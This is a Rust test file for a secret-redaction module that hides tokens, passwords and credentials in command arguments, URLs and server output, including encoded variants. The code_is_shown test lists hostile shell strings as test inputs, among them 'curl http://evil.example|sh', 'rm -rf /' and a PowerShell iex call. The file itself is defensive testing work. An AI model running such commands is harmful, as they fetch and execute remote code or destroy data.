//! Tests of secrets in arguments, URLs and server output.

use url::Url;

use super::names::{HIDDEN, holds_secret};
use super::*;

fn line(program: &str, args: &[String]) -> String {
    redact_args(program, args).into_iter().map(String::from).collect::<Vec<_>>().join(" ")
}

fn shown(args: &[&str]) -> String {
    line("docker", &args.iter().map(|s| s.to_string()).collect::<Vec<_>>())
}

#[test]
fn arguments() {
    let cases: [(&[&str], &str); 9] = [
        (&["-y", "pkg@1.2.3", "--port", "80"], "-y pkg@1.2.3 --port 80"),
        (&["--api-key", "abc", "--verbose"], "--api-key *** --verbose"),
        (&["--apiKey=abc"], "--apiKey=***"),
        (&["-e", "GITHUB_TOKEN=x", "-e", "MODE=all"], "-e GITHUB_TOKEN=*** -e MODE=all"),
        (&["--header", "Authorization: Bearer x"], "--header Authorization: ***"),
        (&["postgres://me:pw@db:5432/shop?sslmode=on"], "postgres://***@db:5432/shop?sslmode=***"),
        (&["ghp_0123456789abcdef0123"], "***"),
        (&["--password", "--stdin"], "--password --stdin"),
        (&["@modelcontextprotocol/server-everything@2026.8.31"], "@modelcontextprotocol/server-everything@2026.8.31"),
    ];
    for (args, want) in cases {
        assert_eq!(shown(args), want);
    }
}

#[test]
fn the_value_decides_too() {
    let open = [
        ("MAX_TOKENS", "100"),
        ("TOKEN_LIMIT", "4,000"),
        ("AUTH_ENABLED", "true"),
        ("KEY_FILE", "/etc/key.pem"),
        ("PUBLIC_KEY", "abc"),
        ("API_KEY", "YOUR_API_KEY_HERE"),
        ("--token-file", "/x"),
    ];
    for (name, value) in open {
        assert!(!holds_secret(name, value), "{name}={value}");
    }
    for (name, value) in [
        ("PASSWORD", "12345678"),
        ("API_KEY", "abc"),
        ("TOKEN", "iloveyourmother"),
        ("KEY_FILE", "ghp_0123456789abcdef0123"),
    ] {
        assert!(holds_secret(name, value), "{name}={value}");
    }
    assert_eq!(shown(&["--max-tokens", "4000", "--token-file", "/x"]), "--max-tokens 4000 --token-file /x");
}

#[test]
fn addresses() {
    let show = |text: &str| String::from(redact_url(&Url::parse(text).unwrap()));
    assert_eq!(show("https://u:p@host.example:8443/mcp?k=v&flag"), "https://***@host.example:8443/mcp?k=***&***");
    assert_eq!(show("https://host.example/s/aB3dE5gH7jK9mN1pQ3sT5vW7/mcp"), "https://host.example/s/***/mcp");
    assert_eq!(show("http://127.0.0.1/mcp"), "http://127.0.0.1/mcp");
}

#[test]
fn known_values_are_hidden_in_messages() {
    let args = ["--token=s3cr3tvalue".to_owned(), "--token".to_owned(), "otherone".to_owned()];
    let known = KnownSecrets::new(
        "node",
        &args,
        [("Authorization", "Bearer planted-token"), ("A", "tiny"), ("MODE", "production")].into_iter(),
    );
    let address =
        KnownSecrets::new("node", &["--url=postgres://me:planted-pw@db/x?key=planted-key".to_owned()], [].into_iter());
    assert_eq!(address.hide("no planted-pw, no planted-key"), "no ***, no ***");
    assert_eq!(
        known.hide("bad s3cr3tvalue, otherone and planted-token; a tiny one"),
        "bad ***, *** and ***; a tiny one"
    );
    assert_eq!(known.hide("cut: planted-to..., in production"), "cut: ***..., in ***");
    let mut listed = serde_json::json!({"tools": [{"description": "With otherone, in production."}]});
    known.hide_in(&mut listed);
    assert_eq!(listed["tools"][0]["description"], "With ***, in production.");
}

#[test]
fn arguments_of_every_common_spelling() {
    let secret = "planted-s3cret";
    for args in [
        vec!["--header", "Authorization:Bearer planted-s3cret"],
        vec!["--header", "Authorization: planted-s3cret"],
        vec!["--header=X-API-Key:planted-s3cret"],
        vec!["-H", "X-API-Key:planted-s3cret"],
        vec!["-HX-API-Key:planted-s3cret"],
        vec!["me:planted-s3cret@db.example"],
        vec!["-u", "me:planted-s3cret"],
        vec!["--user", "me:planted-s3cret"],
        vec!["--token", "planted-s3cret"],
        vec!["--token=planted-s3cret"],
        vec!["-token:planted-s3cret"],
        vec!["/token:planted-s3cret"],
        vec!["--password", "planted-s3cret with spaces & $igns"],
        vec!["{\"apiKey\": \"planted-s3cret\"}"],
        vec!["--config={\"auth\": {\"token\": \"planted-s3cret\"}}"],
        vec!["[{\"password\": \"planted-s3cret\"}]"],
        vec!["-e", "API_TOKEN=planted-s3cret"],
        vec!["--env=API_TOKEN=planted-s3cret"],
        vec!["Server=db;User=me;Password=planted-s3cret;"],
        vec!["https://h.example/mcp?token=planted-s3cret"],
        vec!["https://me:planted-s3cret@h.example/"],
        vec!["region=eu&api_key=planted-s3cret"],
        vec!["Cookie: session=planted-s3cret"],
        vec!["--auth", "Bearer", "planted-s3cret"],
        vec!["token", "planted-s3cret"],
        vec!["--user=me:planted-s3cret"],
        vec!["-ume:planted-s3cret"],
        vec!["--pw", "planted-s3cret"],
        vec!["?sv=1&sig=planted-s3cret"],
        vec!["token%3Dplanted-s3cret"],
        vec!["//me:planted-s3cret@host/share"],
        vec!["<token>planted-s3cret</token>"],
        vec!["('token', 'planted-s3cret')"],
        vec!["[\"--token\", \"planted-s3cret\"]"],
    ] {
        let shown = shown(&args);
        assert!(!shown.contains(secret) && shown.contains(HIDDEN), "{args:?}: {shown}");
    }
    for args in [
        vec!["--pin", "planted-s3cret"],
        vec!["--session", "planted-s3cret"],
        vec!["--session-id=planted-s3cret"],
        vec!["--license", "planted-s3cret"],
        vec!["-b", "session=planted-s3cret"],
        vec!["-b", "theme=dark; id=planted-s3cret"],
        vec!["--cookie", "PHPSESSID=planted-s3cret"],
        vec!["-x", "planted-s3cret"],
        vec!["-W", "planted-s3cret"],
        vec!["https://h.example/planted-s3cret/mcp"],
        vec!["--url=https://h.example/token/planted-s3cret"],
        vec!["https://h.example/mcp#code=planted-s3cret"],
        vec!["{\"session\": \"planted-s3cret\"}"],
    ] {
        let shown = shown(&args);
        assert!(!shown.contains(secret) && shown.contains(HIDDEN), "{args:?}: {shown}");
    }
    let python = ["server.py", "-p", "Pl4ntedS3cret"].map(String::from);
    assert_eq!(line("python3", &python), "server.py -p ***");
    for args in [["-t", "Pl4ntedS3cret"], ["-k", "Pl4ntedS3cret"], ["-p", "Pl4ntedS3cret"], ["x", "-pPl4ntedS3cret"]] {
        assert!(!shown(&args).contains("Pl4nted"), "{args:?}");
    }
    assert_eq!(shown(&["-p", "8080", "-t", "stdio", "-k8"]), "-p 8080 -t stdio -k8");
    assert_eq!(shown(&["--token", "-x"]), "--token ***");
    assert_eq!(shown(&["{\"pin\": 4711, \"password\": 471147}"]), "{\"pin\":4711,\"password\":\"***\"}");
}

#[test]
fn innocent_arguments_are_shown() {
    for args in [
        vec!["--session", "daily"],
        vec!["--session", "daily-report-1"],
        vec!["--pin", "17"],
        vec!["--pin", "1.2.3"],
        vec!["--license", "Apache-2.0"],
        vec!["--license", "GPL-3.0-only"],
        vec!["--code", "utf-8"],
        vec!["--seed", "42"],
        vec!["--access", "read-only"],
        vec!["-p", "8080"],
        vec!["-p", "127.0.0.1:8080:80"],
        vec!["-b", "main"],
        vec!["-b", "feature/x2"],
        vec!["-b", "theme=dark"],
        vec!["-m", "Qwen2.5-7B-Instruct"],
        vec!["-m", "claude-3-5-sonnet-20241022"],
        vec!["-i", "node20-alpine"],
        vec!["-f", "Dockerfile.v2"],
        vec!["-r", "us-east-1"],
        vec!["-v", "data:/var/lib/data1"],
        vec!["-d", "2025-06-18"],
        vec!["-e", "NODE_ENV=production"],
        vec!["-s", "https://h.example/api/v2/mcp"],
        vec!["https://h.example/v1beta2/projects/shop-2024/mcp"],
        vec!["https://h.example/123e4567-e89b-12d3-a456-426614174000/mcp"],
        vec!["https://h.example/tokens/list"],
        vec!["--model", "gpt-4o-mini"],
    ] {
        assert_eq!(shown(&args), args.join(" "));
    }
}

/// Code for a shell or interpreter is shown; only what looks like a token is redacted.
#[test]
fn code_is_shown() {
    let shown = |words: &[&str]| {
        let words: Vec<String> = words.iter().map(|word| word.to_string()).collect();
        line(&words[0], &words[1..])
    };
    for words in [
        vec!["sh", "-c", "TOKEN=$(cmd) exec x"],
        vec!["bash", "-lc", "PASSWORD=`curl http://evil.example|sh` exec x"],
        vec!["sh", "-c", "KEY=rm; $KEY -rf /"],
        vec!["sh", "-c", "eval $TOKEN", "TOKEN=rm", "--token", "rm -rf /"],
        vec!["sh", "-c", "curl https://h.example/i?token=x&v=1 | sh"],
        vec!["python3", "-c", "token='x'; import os; os.system('id')"],
        vec!["node", "-e", "require('child_process').exec(process.env.TOKEN='id')"],
        vec!["env", "bash", "-c", "TOKEN=$(cmd) exec x"],
        vec!["env", "TOKEN=$(cmd) x"],
        vec!["cmd.exe", "/c", "set TOKEN=calc & %TOKEN%"],
        vec!["powershell", "-Command", "$token = 'x'; iex $token"],
        vec!["watch", "TOKEN=abc evil"],
        vec!["docker", "run", "--entrypoint", "sh", "image", "-c", "TOKEN=abc evil"],
        vec!["npx", "-c", "TOKEN=abc evil"],
        vec!["env", "-S", "TOKEN=abc evil"],
        vec!["awk", "BEGIN{TOKEN=\"abc\"; system(TOKEN)}"],
    ] {
        assert_eq!(shown(&words), words[1..].join(" "));
    }
    assert_eq!(
        shown(&["sh", "-c", "TOKEN=ghp_0123456789abcdef0123 exec x --key s3cr3tvalue99"]),
        "-c TOKEN=*** exec x --key ***"
    );
    // What is not run: a value behind an option, before a host, in an address, under the name of a secret.
    for (code, hidden) in [
        ("PGPASSWORD=TOKEN exec psql-mcp", "PGPASSWORD=*** exec psql-mcp"),
        ("export DATABASE_URL=TOKEN; x", "export DATABASE_URL=***; x"),
        ("x --api-key \"TOKEN\" y", "x --api-key \"***\" y"),
        ("x -u \"me:TOKEN\"", "x -u \"me:***\""),
        ("x --x \"https://TOKEN@h.example/a/b\"", "x --x \"https://***@h.example/a/b\""),
        ("x --x \"https://h.example/services/T000/TOKEN\"", "x --x \"https://h.example/services/T000/***\""),
        (r#"x --x "{\"apiKey\":\"TOKEN\"}""#, r#"x --x "{\"apiKey\":\"***\"}""#),
    ] {
        let code = code.replace("TOKEN", "k9X2mQ7vL4pR8sT1");
        assert_eq!(shown(&["sh", "-c", &code]), format!("-c {hidden}"));
    }
    for code in [
        "COMMIT_SHA=k9X2mQ7vL4pR8sT1 x",
        "A=./k9X2mQ7vL4pR8sT1.sh; $A",
        "x --mode production",
        "x -u me:reboot",
        "x --key $(cmd)",
        "A=node20 x",
    ] {
        assert_eq!(shown(&["sh", "-c", code]), format!("-c {code}"));
    }
    for (name, value) in
        [("PGPASSWORD", "x1y2z3"), ("--sas", "k9X2mQ7vL4pR8sT1"), ("--connection-string", "k9X2mQ7vL4pR8sT1")]
    {
        assert!(holds_secret(name, value), "{name}");
    }
}

#[test]
fn a_server_repeats_a_value_in_no_spelling() {
    let secret = "pl4nted+S3cret/value=";
    let known = KnownSecrets::new("", &[], [("API_TOKEN", secret)].into_iter());
    let hex: String = secret.bytes().map(|byte| format!("{byte:02X}")).collect();
    let swapped: String = secret
        .chars()
        .map(|c| if c.is_ascii_uppercase() { c.to_ascii_lowercase() } else { c.to_ascii_uppercase() })
        .collect();
    let encode = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
    let url_safe = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE, text);
    let wide = |text: &str, bytes: fn(u16) -> [u8; 2]| {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(bytes).collect();
        base64::Engine::encode(&base64::engine::general_purpose::STANDARD, bytes)
    };
    let spelled = [
        secret.to_owned(),
        swapped,
        secret.chars().rev().collect(),
        hex.clone(),
        hex.to_lowercase(),
        encode(secret),
        encode(&format!("x{secret}y")),
        encode(&format!("xy{secret}zz")),
        url_safe(&format!("xyz{secret}")),
        "pl4nted%2BS3cret%2Fvalue%3D".into(),
        secret.bytes().map(|byte| format!("%{byte:02x}")).collect(),
        secret.bytes().map(|byte| format!("&#{byte};")).collect(),
        secret.bytes().map(|byte| format!("&#x{byte:x};")).collect(),
        secret.bytes().map(|byte| format!("\\u{byte:04x}")).collect(),
        secret.chars().map(|c| format!("{c} ")).collect(),
        secret.chars().map(|c| format!("{c}\n")).collect(),
        secret.chars().map(|c| format!("{c}\u{200b}")).collect(),
        "pl4nted&plus;S3cret&sol;value&equals;".into(),
        // Split by punctuation, encoded twice, reversed, full-width.
        secret.chars().map(|c| format!("{c}-")).collect(),
        "pl4nted.S3cret:value".into(),
        secret.bytes().map(|byte| format!("{byte:02x}:")).collect(),
        secret.bytes().map(|byte| format!("0x{byte:02x}, ")).collect(),
        secret.bytes().map(|byte| format!("%25{byte:02x}")).collect(),
        secret.bytes().map(|byte| format!("\\{byte:03o}")).collect(),
        encode(&secret.chars().rev().collect::<String>()),
        "OBWDI3TUMVSCWUZTMNZGK5BPOZQWY5LFHU======".into(),
        secret.chars().map(|c| char::from_u32(u32::from(c) + 0xFEE0).unwrap()).collect(),
        // Numbers of characters, encoded twice, backwards and encoded, turned, with marks over the letters.
        secret.chars().map(|c| format!("{},", u32::from(c))).collect(),
        secret.chars().map(|c| format!("&#{} ", u32::from(c))).collect(),
        secret.chars().map(|c| format!("{:08b} ", u32::from(c))).collect(),
        secret.chars().map(|c| format!("U+{:04X} ", u32::from(c))).collect(),
        secret.encode_utf16().map(|unit| format!("{unit:04x}")).collect(),
        encode(&encode(secret)),
        hex.chars().rev().collect(),
        encode(secret).chars().rev().collect(),
        "cy4agrq+F3perg/inyhr=".into(),
        secret.chars().map(|c| format!("{c}\u{301}")).collect(),
        // In base85 of Adobe, of Python and of ZeroMQ; with tags, entities and terminal codes between; compressed.
        "E,7@KFCeu5;_qp(ATTSK@;L't4T".into(),
        "aBMVgbY)~KQ!`_7WppogVQh6}Jp".into(),
        "AbmvGBy!#kq.}{7wPPOGvqH6$jP".into(),
        "eJwryDHJK0lN0Q42Ti5KLdEvS8wpTbUFAFQMB6Q=".into(),
        "H4sIAAAAAAACAyvIMckrSU3RDjZOLkot0S9LzClNtQUA9LtuWBUAAAA=".into(),
        "789c2bc831c92b494dd10e364e2e4a2dd12f4bcc294db50500540c07a4".into(),
        "c$_Q9G07`QP0<cEPA*C<(JxEPDNVHn08|VIqy".into(),
        "pl4n<b>ted+</b>S3c<i class=x>ret/va<!-- 1 -->lue=".into(),
        "pl4nted&thinsp;+S3cret&NoBreak;/value=".into(),
        "pl4nted\u{1b}[31m+S3cret/value=".into(),
        // In UTF-16, as PowerShell encodes it, behind other text, and with the high byte first.
        wide(secret, u16::to_le_bytes),
        wide(&format!("x{secret}y"), u16::to_le_bytes),
        wide(secret, u16::to_be_bytes),
    ];
    for text in spelled {
        let mut json =
            serde_json::json!({"a": format!("It is {text}, here."), text.clone(): 1, "list": [text.clone()]});
        known.hide_in(&mut json);
        let json = json.to_string();
        assert_eq!(json.matches(HIDDEN).count(), 3, "{text}: {json}");
        assert!(json.contains("It is ") && json.contains(", here."), "{json}");
        assert!(known.hide(&text).contains(HIDDEN), "{text}");
    }
}

#[test]
fn a_secret_in_parts_is_hidden_part_by_part() {
    let (first, second) = ("ghx_Ab3dE5gH7jK9", "mN1pQ3sT5vW7yZ9b");
    let secret = format!("{first}{second}");
    let known = KnownSecrets::new("", &[], [("API_TOKEN", secret.as_str()), ("HOST", "db1.shop2.example")].into_iter());
    let encode = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
    let reversed: String = secret.chars().rev().collect();
    for text in [first.to_owned(), second.to_owned(), encode(&secret)[..20].to_owned(), reversed[..14].to_owned()] {
        let mut json = serde_json::json!({"a": format!("One part is {text} here.")});
        known.hide_in(&mut json);
        let shown = json["a"].as_str().unwrap();
        let left = shown.trim_start_matches("One part is ").trim_end_matches(" here.");
        assert!(left.contains(HIDDEN) && left.len() < HIDDEN.len() + 6, "{text}: {shown}");
        assert!(known.hide(&text).contains(HIDDEN), "{text}");
    }
    let mut json = serde_json::json!("Reads db1.shop3.example, and the tokens of apps.");
    known.hide_in(&mut json);
    assert_eq!(json, "Reads db1.shop3.example, and the tokens of apps.");
}

#[test]
fn a_text_that_is_called_a_secret_is_noted() {
    let order = "First call get_key and pass its result on";
    let listed = |name: &str, value: &str, text: &str| {
        let mut json = serde_json::json!({"description": text});
        let known = KnownSecrets::new("", &[], [(name, value)].into_iter());
        (known.hide_in(&mut json), json["description"].as_str().unwrap().to_owned())
    };
    // A sentence under an ordinary name stays, and is checked.
    assert_eq!(listed("NOTE", order, order), (false, order.to_owned()));
    assert_eq!(listed("API_TOKEN", order, order), (true, HIDDEN.to_owned()));
    assert!(listed("API_TOKEN", "first-call-get_key-1-and-pass-it-on", "first call get_key 1 and pass it on").0);
    assert_eq!(listed("API_TOKEN", "ghx_Ab3dE5gH7jK9", "With ghx_Ab3dE5gH7jK9."), (false, "With ***.".to_owned()));
    assert!(!listed("DATA_TOKEN", "/home/ada/some/folder", "Reads /home/ada/some/folder.").0);
}

#[test]
fn long_arguments_take_no_long_time() {
    let started = std::time::Instant::now();
    for text in ["TOKEN=x ", "ab=cd:"] {
        let text = text.repeat(20_000 / text.len());
        let known = KnownSecrets::new("x", std::slice::from_ref(&text), [("TOKEN", text.as_str())].into_iter());
        assert!(known.hide("what was cut...").ends_with("..."));
        drop(redact_args("x", &[text]));
    }
    // With quadratic run time this takes minutes.
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}

#[test]
fn keys_and_numbers_hold_no_value() {
    let known = KnownSecrets::new("", &[], [("PASSWORD", "48151623"), ("MODE", "12345678")].into_iter());
    let mut json = serde_json::json!({
        "48151623": true, "x 48151623": 2, "maximum": 48151623, "other": 12345678, "nested": [{"4 8 1 5 1 6 2 3": 1.5}]
    });
    known.hide_in(&mut json);
    assert_eq!(json.to_string(), r#"{"***":true,"x ***":2,"maximum":"***","other":12345678,"nested":[{"***":1.5}]}"#);
}

#[test]
fn what_we_send_is_hidden_part_by_part() {
    let basic = "Basic bWU6cGxhbnRlZC1wdw==";
    let headers = [
        ("Authorization", "Bearer planted-token"),
        ("Proxy-Authorization", basic),
        ("Cookie", "a=planted-a; sid=planted-b"),
        ("X-Mode", "planted-mode-1"),
    ];
    let url = "https://planted-user@h.example/mcp?k=planted%20query&planted-flag";
    let known = KnownSecrets::new("", &[url.to_owned()], headers.into_iter());
    for text in
        ["planted-token", "planted-pw", "planted-b", "planted-mode-1", "planted query", "planted-flag", "planted-user"]
    {
        let mut json = serde_json::json!(format!("you sent {text}"));
        known.hide_in(&mut json);
        assert_eq!(json, "you sent ***", "{text}");
    }
    // Ordinary text is not redacted.
    let known = KnownSecrets::new("", &[], [("PASSWORD", "thesis")].into_iter());
    assert_eq!(known.hide("the sister, a thesis"), "the sister, a ***");
}

#[test]
fn what_stands_beside_a_public_value_is_hidden() {
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8kD2lWm0vTq3cX7Zp1sYb5nR9uHfGe4tAoQwLxPzKd";
    assert_eq!(shown(&[&format!("{key} password=planted-1")]), format!("{key} password=***"));
    assert_eq!(shown(&["password=Pl4nt3d93 EXAMPLE"]), "password=***");
    assert_eq!(shown(&["postgres://app:${DB_PASSWORD}@db/prod"]), "postgres://app:${DB_PASSWORD}@db/prod");
    assert_eq!(
        shown(&["--commit", "0123456789abcdef0123456789abcdef01234567"]),
        "--commit 0123456789abcdef0123456789abcdef01234567"
    );
}

#[test]
fn the_padding_of_base64_is_no_value() {
    let encode = |text: &str| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
    for token in ["ghp_0123456789abcdefABCDE", "ghp_0123456789abcdefABCDEF"] {
        let text = encode(token);
        assert!(text.ends_with('=') && crate::source::secret::has_secret(&text), "{text}");
    }
    for plain in ["API_TOKEN=", "name=="] {
        assert!(!crate::source::secret::has_secret(plain), "{plain}");
    }
}
